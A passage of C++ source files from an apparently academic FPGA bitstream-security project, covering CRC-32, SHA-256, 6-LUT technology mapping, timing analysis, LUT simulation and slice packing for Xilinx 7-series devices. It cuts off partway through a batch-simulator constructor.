namespace sbm::crypto {

Crc32Engine::Crc32Engine(u32 reflected_poly) {
  for (u32 i = 0; i < 256; ++i) {
    u32 c = i;
    for (int k = 0; k < 8; ++k) c = (c & 1) ? (reflected_poly ^ (c >> 1)) : (c >> 1);
    table_[i] = c;
  }
}

void Crc32Engine::update_byte(u8 b) {
  state_ = table_[(state_ ^ b) & 0xffu] ^ (state_ >> 8);
}

void Crc32Engine::update(std::span<const u8> data) {
  for (u8 b : data) update_byte(b);
}

u32 crc32(std::span<const u8> data) {
  Crc32Engine e(0xEDB88320u);
  e.update(data);
  return e.value();
}

u32 crc32c(std::span<const u8> data) {
  Crc32Engine e(0x82F63B78u);
  e.update(data);
  return e.value();
}

}  // namespace sbm::crypto
