// SHA-256 (FIPS 180-4).
//
// Substrate for the HMAC that authenticates bitstreams in the
// MAC-then-encrypt scheme described in the paper (Fig. 1).
#pragma once

#include <array>
#include <cstdint>
#include <span>

#include "common/bits.h"

namespace sbm::crypto {

using Sha256Digest = std::array<u8, 32>;

/// Incremental SHA-256.
class Sha256 {
 public:
  Sha256() { reset(); }

  void reset();
  void update(std::span<const u8> data);
  /// Finalizes and returns the digest.  The object must be reset() before
  /// further use.
  Sha256Digest finish();

 private:
  void process_block(const u8* block);

  std::array<u32, 8> h_{};
  std::array<u8, 64> buf_{};
  size_t buf_len_ = 0;
  u64 total_len_ = 0;
};

/// One-shot SHA-256.
Sha256Digest sha256(std::span<const u8> data);

}  // namespace sbm::crypto
