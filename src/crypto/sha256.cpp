#include "crypto/sha256.h"

#include <bit>
#include <cstring>

namespace sbm::crypto {
namespace {

constexpr std::array<u32, 64> kK = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
    0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
    0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
    0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
    0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
    0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
    0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
    0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
    0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2};

constexpr u32 rotr(u32 x, int n) { return std::rotr(x, n); }

}  // namespace

void Sha256::reset() {
  h_ = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
        0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
  buf_len_ = 0;
  total_len_ = 0;
}

void Sha256::process_block(const u8* block) {
  u32 w[64];
  for (int i = 0; i < 16; ++i) w[i] = load_be32(block + 4 * i);
  for (int i = 16; i < 64; ++i) {
    const u32 s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >> 3);
    const u32 s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >> 10);
    w[i] = w[i - 16] + s0 + w[i - 7] + s1;
  }
  u32 a = h_[0], b = h_[1], c = h_[2], d = h_[3];
  u32 e = h_[4], f = h_[5], g = h_[6], h = h_[7];
  for (int i = 0; i < 64; ++i) {
    const u32 s1 = rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25);
    const u32 ch = (e & f) ^ (~e & g);
    const u32 t1 = h + s1 + ch + kK[static_cast<size_t>(i)] + w[i];
    const u32 s0 = rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22);
    const u32 maj = (a & b) ^ (a & c) ^ (b & c);
    const u32 t2 = s0 + maj;
    h = g;
    g = f;
    f = e;
    e = d + t1;
    d = c;
    c = b;
    b = a;
    a = t1 + t2;
  }
  h_[0] += a;
  h_[1] += b;
  h_[2] += c;
  h_[3] += d;
  h_[4] += e;
  h_[5] += f;
  h_[6] += g;
  h_[7] += h;
}

void Sha256::update(std::span<const u8> data) {
  total_len_ += data.size();
  size_t off = 0;
  if (buf_len_ > 0) {
    const size_t take = std::min(data.size(), buf_.size() - buf_len_);
    std::memcpy(buf_.data() + buf_len_, data.data(), take);
    buf_len_ += take;
    off = take;
    if (buf_len_ == buf_.size()) {
      process_block(buf_.data());
      buf_len_ = 0;
    }
  }
  while (data.size() - off >= 64) {
    process_block(data.data() + off);
    off += 64;
  }
  if (off < data.size()) {
    std::memcpy(buf_.data(), data.data() + off, data.size() - off);
    buf_len_ = data.size() - off;
  }
}

Sha256Digest Sha256::finish() {
  const u64 bit_len = total_len_ * 8;
  const u8 pad_one = 0x80;
  update(std::span<const u8>(&pad_one, 1));
  const u8 zero = 0;
  while (buf_len_ != 56) update(std::span<const u8>(&zero, 1));
  u8 len_bytes[8];
  store_be64(len_bytes, bit_len);
  // Bypass update()'s total_len_ accounting for the length field itself.
  std::memcpy(buf_.data() + 56, len_bytes, 8);
  process_block(buf_.data());
  Sha256Digest out{};
  for (int i = 0; i < 8; ++i) store_be32(out.data() + 4 * i, h_[static_cast<size_t>(i)]);
  return out;
}

Sha256Digest sha256(std::span<const u8> data) {
  Sha256 s;
  s.update(data);
  return s.finish();
}

}  // namespace sbm::crypto
