#include "mapper/mapper.h"

#include <algorithm>
#include <stdexcept>
#include <unordered_map>
#include <unordered_set>

namespace sbm::mapper {

using logic::TruthTable6;
using netlist::kNoNode;
using netlist::Node;
using netlist::NodeId;
using netlist::NodeKind;

namespace {

constexpr unsigned kMaxCutSize = 6;

struct Cut {
  std::array<NodeId, kMaxCutSize> leaves{};
  u8 size = 0;
  u16 depth = 0;  // max node_depth over leaves

  bool operator==(const Cut& o) const {
    return size == o.size && std::equal(leaves.begin(), leaves.begin() + size, o.leaves.begin());
  }
};

bool is_source(const Node& n) {
  // Carry cells are mapping barriers like BRAM outputs: they provide a value
  // to the LUT fabric but are never absorbed into a LUT.
  switch (n.kind) {
    case NodeKind::kConst0:
    case NodeKind::kConst1:
    case NodeKind::kInput:
    case NodeKind::kDff:
    case NodeKind::kBramOut:
    case NodeKind::kCarry:
      return true;
    default:
      return false;
  }
}

bool is_gate(const Node& n) {
  switch (n.kind) {
    case NodeKind::kAnd:
    case NodeKind::kOr:
    case NodeKind::kXor:
    case NodeKind::kNot:
      return true;
    default:
      return false;
  }
}

/// Merges two sorted leaf sets; returns false on overflow.
bool merge_cuts(const Cut& a, const Cut& b, Cut& out) {
  unsigned i = 0, j = 0, k = 0;
  while (i < a.size || j < b.size) {
    NodeId next;
    if (j >= b.size || (i < a.size && a.leaves[i] <= b.leaves[j])) {
      next = a.leaves[i];
      if (j < b.size && b.leaves[j] == next) ++j;
      ++i;
    } else {
      next = b.leaves[j];
      ++j;
    }
    if (k == kMaxCutSize) return false;
    out.leaves[k++] = next;
  }
  out.size = static_cast<u8>(k);
  return true;
}

struct NodeCuts {
  std::vector<Cut> impl;  // implementation candidates (leaves != {self})
  u16 depth = 0;          // best implementation depth (sources: 0)
};

/// Computes the truth table of the cone rooted at `root` over the cut
/// leaves.
TruthTable6 cone_function(const netlist::Network& net, NodeId root,
                          const std::vector<NodeId>& leaves) {
  std::unordered_map<NodeId, TruthTable6> memo;
  for (size_t j = 0; j < leaves.size(); ++j) {
    memo.emplace(leaves[j], TruthTable6::var(static_cast<unsigned>(j)));
  }
  // Depth-first evaluation with an explicit stack (carry chains are deep).
  std::vector<NodeId> stack{root};
  while (!stack.empty()) {
    const NodeId id = stack.back();
    if (memo.count(id)) {
      stack.pop_back();
      continue;
    }
    const Node& n = net.node(id);
    if (n.kind == NodeKind::kConst0) {
      memo.emplace(id, TruthTable6::zero());
      stack.pop_back();
      continue;
    }
    if (n.kind == NodeKind::kConst1) {
      memo.emplace(id, TruthTable6::one());
      stack.pop_back();
      continue;
    }
    if (!is_gate(n)) {
      throw std::logic_error("cone crosses a source that is not a cut leaf");
    }
    const NodeId a = n.fanin[0];
    const NodeId b = n.kind == NodeKind::kNot ? kNoNode : n.fanin[1];
    bool ready = true;
    if (!memo.count(a)) {
      stack.push_back(a);
      ready = false;
    }
    if (b != kNoNode && !memo.count(b)) {
      stack.push_back(b);
      ready = false;
    }
    if (!ready) continue;
    TruthTable6 out;
    switch (n.kind) {
      case NodeKind::kAnd:
        out = memo.at(a) & memo.at(b);
        break;
      case NodeKind::kOr:
        out = memo.at(a) | memo.at(b);
        break;
      case NodeKind::kXor:
        out = memo.at(a) ^ memo.at(b);
        break;
      default:
        out = ~memo.at(a);
        break;
    }
    memo.emplace(id, out);
    stack.pop_back();
  }
  return memo.at(root);
}

}  // namespace

LutNetwork map_network(const netlist::Network& net, const MapperOptions& options) {
  if (options.lut_inputs != kMaxCutSize) {
    throw std::invalid_argument("only 6-LUT mapping is supported");
  }
  const auto& topo = net.topo_order();

  // Fanout counts (for the node-reuse ablation).
  std::vector<u32> fanout(net.node_count(), 0);
  for (NodeId id = 0; id < net.node_count(); ++id) {
    const Node& n = net.node(id);
    if (n.kind == NodeKind::kCarry) {
      for (NodeId f : n.fanin) ++fanout[f];
      continue;
    }
    if (!is_gate(n)) continue;
    ++fanout[n.fanin[0]];
    if (n.kind != NodeKind::kNot) ++fanout[n.fanin[1]];
  }
  for (const auto& [name, po] : net.outputs()) ++fanout[po];
  for (NodeId dff : net.dffs()) {
    const NodeId d = net.node(dff).fanin[0];
    if (d != kNoNode) ++fanout[d];
  }
  for (const auto& bram : net.brams()) {
    for (NodeId in : bram.inputs) ++fanout[in];
  }

  // ---- cut enumeration (priority cuts) ------------------------------------
  std::vector<NodeCuts> cuts(net.node_count());
  std::vector<std::vector<Cut>> exposed(net.node_count());

  auto trivial = [&cuts](NodeId id) {
    Cut c;
    c.leaves[0] = id;
    c.size = 1;
    c.depth = cuts[id].depth;
    return c;
  };

  for (NodeId id : topo) {
    const Node& n = net.node(id);
    if (is_source(n)) {
      cuts[id].depth = 0;
      exposed[id] = {trivial(id)};
      continue;
    }
    if (!is_gate(n)) continue;

    const bool barrier =
        n.keep || (!options.allow_node_reuse && fanout[id] > 1);

    std::vector<Cut> merged;
    if (n.keep) {
      // Countermeasure: the kept node is implemented by its own fanins only.
      Cut c;
      std::vector<NodeId> fi{n.fanin[0]};
      if (n.kind != NodeKind::kNot) fi.push_back(n.fanin[1]);
      std::sort(fi.begin(), fi.end());
      fi.erase(std::unique(fi.begin(), fi.end()), fi.end());
      if (fi.size() > kMaxCutSize) throw std::logic_error("kept node with too many fanins");
      for (size_t i = 0; i < fi.size(); ++i) c.leaves[i] = fi[i];
      c.size = static_cast<u8>(fi.size());
      u16 dep = 0;
      for (size_t i = 0; i < fi.size(); ++i) dep = std::max(dep, cuts[fi[i]].depth);
      c.depth = dep;
      merged.push_back(c);
    } else {
      const auto& la = exposed[n.fanin[0]];
      if (n.kind == NodeKind::kNot) {
        merged = la;
      } else {
        const auto& lb = exposed[n.fanin[1]];
        for (const Cut& ca : la) {
          for (const Cut& cb : lb) {
            Cut c;
            if (!merge_cuts(ca, cb, c)) continue;
            u16 dep = 0;
            for (unsigned i = 0; i < c.size; ++i) dep = std::max(dep, cuts[c.leaves[i]].depth);
            c.depth = dep;
            merged.push_back(c);
          }
        }
      }
      std::sort(merged.begin(), merged.end(), [](const Cut& x, const Cut& y) {
        if (x.depth != y.depth) return x.depth < y.depth;
        if (x.size != y.size) return x.size > y.size;  // prefer absorption
        return std::lexicographical_compare(x.leaves.begin(), x.leaves.begin() + x.size,
                                            y.leaves.begin(), y.leaves.begin() + y.size);
      });
      merged.erase(std::unique(merged.begin(), merged.end()), merged.end());
      if (merged.size() > options.max_cuts) {
        // Priority pruning must never starve fanouts of small cuts: keep the
        // smallest structural cut alive alongside the best-ranked ones, or a
        // later merge may find no 6-feasible combination at all.
        const Cut smallest = *std::min_element(
            merged.begin(), merged.end(),
            [](const Cut& x, const Cut& y) { return x.size < y.size; });
        merged.resize(options.max_cuts);
        if (std::find(merged.begin(), merged.end(), smallest) == merged.end()) {
          merged.back() = smallest;
        }
      }
    }

    cuts[id].impl = merged;
    cuts[id].depth = static_cast<u16>(merged.empty() ? 0 : merged.front().depth + 1);
    if (barrier) {
      exposed[id] = {trivial(id)};
    } else {
      exposed[id] = merged;
      // Inverters are free in LUT fabrics; a real mapper never routes an
      // inverter output to a LUT pin, so NOT nodes expose no trivial cut.
      if (n.kind != NodeKind::kNot) exposed[id].push_back(trivial(id));
    }
  }

  // ---- covering ------------------------------------------------------------
  std::vector<NodeId> required;
  auto require = [&required](NodeId id) { required.push_back(id); };
  for (const auto& [name, po] : net.outputs()) require(po);
  for (NodeId dff : net.dffs()) {
    const NodeId d = net.node(dff).fanin[0];
    if (d != kNoNode) require(d);
  }
  for (const auto& bram : net.brams()) {
    for (NodeId in : bram.inputs) require(in);
  }
  for (NodeId id = 0; id < net.node_count(); ++id) {
    if (net.node(id).keep) require(id);
  }

  LutNetwork out;
  std::unordered_set<NodeId> mapped;
  while (!required.empty()) {
    const NodeId id = required.back();
    required.pop_back();
    if (mapped.count(id)) continue;
    const Node& n = net.node(id);
    if (n.kind == NodeKind::kCarry) {
      // Carry cells need no LUT but their operands must be implemented.
      if (mapped.count(id)) continue;
      mapped.insert(id);
      require(n.fanin[0]);
      require(n.fanin[1]);
      require(n.fanin[2]);
      continue;
    }
    if (is_source(n)) continue;  // direct connection, no LUT
    if (!is_gate(n)) continue;
    mapped.insert(id);
    if (cuts[id].impl.empty()) throw std::logic_error("gate without implementation cut");
    const Cut& c = cuts[id].impl.front();
    MappedLut lut;
    lut.root = id;
    lut.inputs.assign(c.leaves.begin(), c.leaves.begin() + c.size);
    lut.function = cone_function(net, id, lut.inputs);
    out.luts.push_back(std::move(lut));
    for (unsigned i = 0; i < c.size; ++i) require(c.leaves[i]);
  }

  // Topological storage order: increasing root id is fanin-first by
  // construction of the Network.
  std::sort(out.luts.begin(), out.luts.end(),
            [](const MappedLut& a, const MappedLut& b) { return a.root < b.root; });
  for (size_t i = 0; i < out.luts.size(); ++i) out.lut_of_root[out.luts[i].root] = i;
  return out;
}

MappingStats mapping_stats(const netlist::Network& net, const LutNetwork& mapped) {
  MappingStats st;
  st.luts = mapped.lut_count();
  std::unordered_map<NodeId, size_t> level;
  size_t input_sum = 0;
  for (const MappedLut& lut : mapped.luts) {
    size_t lv = 0;
    for (NodeId in : lut.inputs) {
      auto it = level.find(in);
      if (it != level.end()) lv = std::max(lv, it->second);
    }
    level[lut.root] = lv + 1;
    st.max_depth = std::max(st.max_depth, lv + 1);
    for (size_t j = 0; j < lut.inputs.size(); ++j) {
      if (lut.function.depends_on(static_cast<unsigned>(j))) ++input_sum;
    }
  }
  (void)net;
  st.avg_inputs = mapped.lut_count() ? static_cast<double>(input_sum) / mapped.lut_count() : 0.0;
  return st;
}

}  // namespace sbm::mapper
