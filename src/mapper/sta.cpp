#include "mapper/sta.h"

#include <algorithm>
#include <unordered_map>

namespace sbm::mapper {

using netlist::kNoNode;
using netlist::Node;
using netlist::NodeId;
using netlist::NodeKind;

namespace {

struct Arrival {
  double time = 0;
  NodeId source = kNoNode;  // launching register / input for traceback
  size_t levels = 0;
};

std::string describe(const netlist::Network& net, NodeId id) {
  const std::string& name = net.name_of(id);
  if (!name.empty()) return name;
  const Node& n = net.node(id);
  if (n.kind == NodeKind::kBramOut) {
    return net.brams()[n.bram].name + ".dout[" + std::to_string(n.bram_bit) + "]";
  }
  return "n" + std::to_string(id);
}

}  // namespace

StaResult run_sta(const netlist::Network& net, const LutNetwork& mapped,
                  const TimingModel& model) {
  std::unordered_map<NodeId, Arrival> arrival;

  auto source_arrival = [&](NodeId id) -> Arrival {
    const Node& n = net.node(id);
    switch (n.kind) {
      case NodeKind::kDff:
        return {model.clk_to_q_ns, id, 0};
      case NodeKind::kInput:
        return {0.0, id, 0};
      default:
        return {0.0, id, 0};
    }
  };

  auto get = [&](NodeId id) -> Arrival {
    const auto it = arrival.find(id);
    if (it != arrival.end()) return it->second;
    return source_arrival(id);
  };

  // BRAM outputs: inputs settle first (they are LUT roots or sources), then
  // one net delay into the BRAM and the access delay.
  // LUT roots: max input arrival + net + LUT delay.  Process in topological
  // (id) order with BRAMs interleaved at their output-node ids.
  for (NodeId id : net.topo_order()) {
    const Node& n = net.node(id);
    if (n.kind == NodeKind::kBramOut) {
      Arrival worst{};
      const netlist::Bram& b = net.brams()[n.bram];
      for (NodeId in : b.inputs) {
        const Arrival a = get(in);
        if (a.time >= worst.time) worst = a;
      }
      arrival[id] = {worst.time + model.net_delay_ns + model.bram_delay_ns, worst.source,
                     worst.levels};
      continue;
    }
    if (n.kind == NodeKind::kCarry) {
      Arrival worst{};
      for (NodeId in : n.fanin) {
        const Arrival a = get(in);
        if (a.time >= worst.time) worst = a;
      }
      arrival[id] = {worst.time + model.carry_delay_ns, worst.source, worst.levels};
      continue;
    }
    const auto it = mapped.lut_of_root.find(id);
    if (it == mapped.lut_of_root.end()) continue;
    const MappedLut& lut = mapped.luts[it->second];
    Arrival worst{};
    for (NodeId in : lut.inputs) {
      const Arrival a = get(in);
      if (a.time >= worst.time) worst = a;
    }
    arrival[id] = {worst.time + model.net_delay_ns + model.lut_delay_ns, worst.source,
                   worst.levels + 1};
  }

  // Endpoints: DFF D inputs and primary outputs.
  std::vector<TimingPath> paths;
  auto add_endpoint = [&](NodeId data, const std::string& end_name) {
    if (data == kNoNode) return;
    const Arrival a = get(data);
    TimingPath p;
    p.delay_ns = a.time + model.net_delay_ns + model.setup_ns;
    p.start = a.source == kNoNode ? "<const>" : describe(net, a.source);
    p.end = end_name;
    p.logic_levels = a.levels;
    paths.push_back(std::move(p));
  };
  for (NodeId dff : net.dffs()) add_endpoint(net.node(dff).fanin[0], describe(net, dff));
  for (const auto& [name, po] : net.outputs()) add_endpoint(po, name);

  std::sort(paths.begin(), paths.end(),
            [](const TimingPath& a, const TimingPath& b) { return a.delay_ns > b.delay_ns; });

  StaResult res;
  if (!paths.empty()) {
    res.critical = paths.front();
    res.critical_delay_ns = paths.front().delay_ns;
    paths.resize(std::min<size_t>(paths.size(), 10));
    res.slowest = std::move(paths);
  }
  return res;
}

}  // namespace sbm::mapper
