#include "mapper/lut_network.h"

namespace sbm::mapper {

using netlist::Node;
using netlist::NodeId;
using netlist::NodeKind;

LutSimulator::LutSimulator(const netlist::Network& net, const LutNetwork& mapped)
    : net_(net), mapped_(mapped), value_(net.node_count(), 0), state_(net.node_count(), 0) {
  net_.topo_order();
}

void LutSimulator::set_input(NodeId input, bool v) { value_[input] = v ? 1 : 0; }

void LutSimulator::set_input_word(const netlist::Word& w, u32 v) {
  for (unsigned i = 0; i < 32; ++i) set_input(w[i], bit_of(v, i) != 0);
}

void LutSimulator::settle() {
  // Netlist node ids are created fanin-first, so increasing id is a valid
  // topological order over sources, BRAM outputs and LUT roots alike.
  for (NodeId id : net_.topo_order()) {
    const Node& n = net_.node(id);
    switch (n.kind) {
      case NodeKind::kConst0:
        value_[id] = 0;
        break;
      case NodeKind::kConst1:
        value_[id] = 1;
        break;
      case NodeKind::kInput:
        break;  // testbench-driven
      case NodeKind::kDff:
        value_[id] = state_[id];
        break;
      case NodeKind::kBramOut: {
        const netlist::Bram& b = net_.brams()[n.bram];
        u32 addr = 0;
        for (unsigned i = 0; i < 32; ++i) addr |= u32{value_[b.inputs[i]]} << i;
        value_[id] = bit_of(b.eval(addr), n.bram_bit);
        break;
      }
      case NodeKind::kCarry: {
        const u8 a = value_[n.fanin[0]], b = value_[n.fanin[1]], c = value_[n.fanin[2]];
        value_[id] = static_cast<u8>((a & b) | (c & (a ^ b)));
        break;
      }
      default: {
        const auto it = mapped_.lut_of_root.find(id);
        if (it == mapped_.lut_of_root.end()) break;  // interior node, unused
        const MappedLut& lut = mapped_.luts[it->second];
        unsigned index = 0;
        for (size_t j = 0; j < lut.inputs.size(); ++j) {
          index |= static_cast<unsigned>(value_[lut.inputs[j]]) << j;
        }
        value_[id] = static_cast<u8>(lut.function.eval(index));
        break;
      }
    }
  }
}

void LutSimulator::clock() {
  for (NodeId dff : net_.dffs()) {
    const NodeId d = net_.node(dff).fanin[0];
    state_[dff] = d == netlist::kNoNode ? 0 : value_[d];
  }
}

u32 LutSimulator::read_word(const netlist::Word& w) const {
  u32 v = 0;
  for (unsigned i = 0; i < 32; ++i) v |= u32{value(w[i])} << i;
  return v;
}

void LutSimulator::reset() {
  std::fill(value_.begin(), value_.end(), 0);
  std::fill(state_.begin(), state_.end(), 0);
}

}  // namespace sbm::mapper
