// Slice packing and physical LUT assignment.
//
// Xilinx 7-series LUTs are 6-input, dual-output (Fig. 4): a LUT can realize
// one function of up to 6 inputs on O6, or two functions of up to 5 shared
// inputs on O5/O6 (O5 = INIT[31:0], O6 = a6 ? INIT[63:32] : INIT[31:0],
// with a6 tied high in dual mode).  Slices hold four LUTs each and come in
// two flavours, SLICEL and SLICEM, which the bitstream layer stores with
// different sub-vector orders (Section V-A).
//
// Unconnected physical pins are tied to logic 1, as the vendor tools do;
// the device model honours this when an attacker rewrites an INIT.
#pragma once

#include "common/rng.h"
#include "mapper/lut_network.h"

namespace sbm::mapper {

enum class SliceType : u8 { kSliceL, kSliceM };

/// One physical LUT site.  In dual mode both logical LUTs are re-expressed
/// over the shared pin list before INIT emission.
struct PhysicalLut {
  std::vector<netlist::NodeId> pins;  // <= 6 single, <= 5 dual
  int o6_lut = -1;                    // index into LutNetwork::luts
  int o5_lut = -1;                    // -1 when single-output
  bool dual() const { return o5_lut >= 0; }
};

struct PlacedDesign {
  LutNetwork mapped;                   // canonical (as-synthesized) functions
  std::vector<PhysicalLut> phys;       // physical sites in placement order
  std::vector<SliceType> slice_types;  // per slice of four sites

  SliceType slice_of(size_t phys_index) const { return slice_types[phys_index / 4]; }

  /// 64-bit INIT for a physical site computed from the canonical functions.
  u64 init_of(size_t phys_index) const;

  /// Logical function of a mapped LUT given the (possibly attacker-modified)
  /// INIT of its physical site, honouring pin ties.
  logic::TruthTable6 function_from_init(size_t phys_index, bool o5, u64 init) const;

  /// Physical site and output (O5/O6) implementing a mapped LUT.
  struct Site {
    size_t phys_index;
    bool is_o5;
  };
  Site site_of_lut(size_t lut_index) const;
};

struct PackingOptions {
  /// Greedy O5/O6 pairing of LUTs whose combined support is <= 5.
  bool enable_dual_output = true;
  /// Placement scatter seed (sites are shuffled deterministically so LUT
  /// chunks are not trivially contiguous in the bitstream).
  u64 placement_seed = 0x5eed;
  /// Every third slice is a SLICEM, the rest SLICEL.
  unsigned slicem_period = 3;
};

/// Packs a mapped network into physical sites and assigns slice types.
PlacedDesign pack_and_place(LutNetwork mapped, const PackingOptions& options = {});

}  // namespace sbm::mapper
