// Cut-based 6-LUT technology mapping (paper Section II-B).
//
// The mapper enumerates k-feasible cuts bottom-up with priority-cut pruning
// [37], then covers the network from the required roots (primary outputs,
// DFF data inputs, BRAM inputs) choosing depth-optimal cuts.  Like
// commercial mappers it freely *reuses* interior nodes: a node shared by
// several covers is duplicated into each covering LUT, which is why the
// paper finds the target node v inside more than one LUT per bit.
//
// DONT_TOUCH (Node::keep) nodes implement the paper's countermeasure
// constraint: a kept node is always a mapping root implemented by its
// trivial cut (its own fanins), and no other cut may absorb it.
#pragma once

#include "mapper/lut_network.h"

namespace sbm::mapper {

struct MapperOptions {
  unsigned lut_inputs = 6;
  /// Priority-cut list length per node.
  unsigned max_cuts = 8;
  /// If false, cut enumeration stops at nodes that multiple outputs share
  /// (fanout barriers), eliminating node reuse/duplication.  Ablation knob
  /// for the candidate-count experiment (Table II).
  bool allow_node_reuse = true;
};

/// Maps `net` onto 6-LUTs.  Throws std::logic_error if a kept node has more
/// than `lut_inputs` fanins.
LutNetwork map_network(const netlist::Network& net, const MapperOptions& options = {});

/// Statistics helper used by benches and tests.
struct MappingStats {
  size_t luts = 0;
  size_t max_depth = 0;   // LUT levels on the longest register-to-register path
  double avg_inputs = 0;  // average used inputs per LUT
};
MappingStats mapping_stats(const netlist::Network& net, const LutNetwork& mapped);

}  // namespace sbm::mapper
