#include "mapper/packing.h"

#include <algorithm>
#include <numeric>
#include <stdexcept>

namespace sbm::mapper {

using logic::TruthTable6;
using netlist::NodeId;

namespace {

/// Re-expresses `lut`'s function over the pin list `pins` (a superset of the
/// LUT's used inputs).  Returns the permuted truth table; the LUT's logical
/// `inputs` are replaced by `pins`.
TruthTable6 rebase_onto_pins(const MappedLut& lut, const std::vector<NodeId>& pins) {
  logic::InputPermutation perm{};
  std::array<bool, 6> used{};
  for (size_t k = 0; k < lut.inputs.size(); ++k) {
    const auto it = std::find(pins.begin(), pins.end(), lut.inputs[k]);
    if (it == pins.end()) throw std::logic_error("pin list does not cover LUT input");
    const u8 pos = static_cast<u8>(it - pins.begin());
    perm[k] = pos;
    used[pos] = true;
  }
  // Complete to a bijection; the function is vacuous in the filled slots.
  size_t next = lut.inputs.size();
  for (u8 pos = 0; pos < 6; ++pos) {
    if (!used[pos]) {
      if (next >= 6) throw std::logic_error("pin completion overflow");
      perm[next++] = pos;
    }
  }
  return lut.function.permuted(perm);
}

std::vector<NodeId> union_pins(const MappedLut& a, const MappedLut& b) {
  std::vector<NodeId> u = a.inputs;
  for (NodeId n : b.inputs) {
    if (std::find(u.begin(), u.end(), n) == u.end()) u.push_back(n);
  }
  std::sort(u.begin(), u.end());
  return u;
}

}  // namespace

u64 PlacedDesign::init_of(size_t phys_index) const {
  const PhysicalLut& p = phys[phys_index];
  if (!p.dual()) {
    return mapped.luts[static_cast<size_t>(p.o6_lut)].function.bits();
  }
  // Dual: O5 reads INIT[31:0], O6 (a6 tied high) reads INIT[63:32].  Both
  // functions are stored rebased over the shared pins, vacuous in a6, so
  // either half of their table is the correct 32-bit sub-table.
  const u32 lo = mapped.luts[static_cast<size_t>(p.o5_lut)].function.half(0);
  const u32 hi = mapped.luts[static_cast<size_t>(p.o6_lut)].function.half(0);
  return (u64{hi} << 32) | lo;
}

TruthTable6 PlacedDesign::function_from_init(size_t phys_index, bool o5, u64 init) const {
  const PhysicalLut& p = phys[phys_index];
  TruthTable6 f;
  if (!p.dual()) {
    f = TruthTable6(init);
  } else if (o5) {
    const u64 lo = init & 0xffffffffull;
    f = TruthTable6(lo | (lo << 32));
  } else {
    const u64 hi = init >> 32;
    f = TruthTable6(hi | (hi << 32));
  }
  // Unconnected pins are tied to 1.
  const size_t pin_limit = p.dual() ? 5 : 6;
  for (size_t j = p.pins.size(); j < pin_limit; ++j) {
    f = f.cofactor(static_cast<unsigned>(j), 1);
  }
  return f;
}

PlacedDesign::Site PlacedDesign::site_of_lut(size_t lut_index) const {
  for (size_t i = 0; i < phys.size(); ++i) {
    if (phys[i].o6_lut == static_cast<int>(lut_index)) return {i, false};
    if (phys[i].o5_lut == static_cast<int>(lut_index)) return {i, true};
  }
  throw std::out_of_range("LUT has no physical site");
}

PlacedDesign pack_and_place(LutNetwork mapped, const PackingOptions& options) {
  PlacedDesign out;

  // Greedy dual-output pairing: first-fit over LUTs needing <= 5 inputs.
  const size_t n = mapped.luts.size();
  std::vector<int> partner(n, -1);
  if (options.enable_dual_output) {
    std::vector<size_t> small;
    for (size_t i = 0; i < n; ++i) {
      if (mapped.luts[i].inputs.size() <= 5) small.push_back(i);
    }
    for (size_t a = 0; a < small.size(); ++a) {
      if (partner[small[a]] != -1) continue;
      for (size_t b = a + 1; b < small.size(); ++b) {
        if (partner[small[b]] != -1) continue;
        if (union_pins(mapped.luts[small[a]], mapped.luts[small[b]]).size() <= 5) {
          partner[small[a]] = static_cast<int>(small[b]);
          partner[small[b]] = static_cast<int>(small[a]);
          break;
        }
      }
    }
  }

  // Build physical sites; rebase functions of paired LUTs onto shared pins.
  for (size_t i = 0; i < n; ++i) {
    if (partner[i] != -1 && static_cast<size_t>(partner[i]) < i) continue;  // done as pair
    PhysicalLut p;
    if (partner[i] == -1) {
      p.o6_lut = static_cast<int>(i);
      p.pins = mapped.luts[i].inputs;
    } else {
      const size_t j = static_cast<size_t>(partner[i]);
      p.pins = union_pins(mapped.luts[i], mapped.luts[j]);
      mapped.luts[i].function = rebase_onto_pins(mapped.luts[i], p.pins);
      mapped.luts[i].inputs = p.pins;
      mapped.luts[j].function = rebase_onto_pins(mapped.luts[j], p.pins);
      mapped.luts[j].inputs = p.pins;
      p.o5_lut = static_cast<int>(i);
      p.o6_lut = static_cast<int>(j);
    }
    out.phys.push_back(std::move(p));
  }

  // Deterministic placement scatter.
  Rng rng(options.placement_seed);
  for (size_t i = out.phys.size(); i > 1; --i) {
    const size_t j = static_cast<size_t>(rng.next_below(i));
    std::swap(out.phys[i - 1], out.phys[j]);
  }

  const size_t slices = (out.phys.size() + 3) / 4;
  out.slice_types.resize(slices);
  for (size_t s = 0; s < slices; ++s) {
    out.slice_types[s] = (options.slicem_period != 0 && s % options.slicem_period ==
                                                            options.slicem_period - 1)
                             ? SliceType::kSliceM
                             : SliceType::kSliceL;
  }
  out.mapped = std::move(mapped);
  return out;
}

}  // namespace sbm::mapper
