#include "mapper/batch_lut_sim.h"

#include <cstring>

namespace sbm::mapper {

using netlist::Node;
using netlist::NodeId;
using netlist::NodeKind;

BatchLutTape::BatchLutTape(const netlist::Network& net, const LutNetwork& mapped) : net_(net) {
  table_offset_.resize(mapped.luts.size());
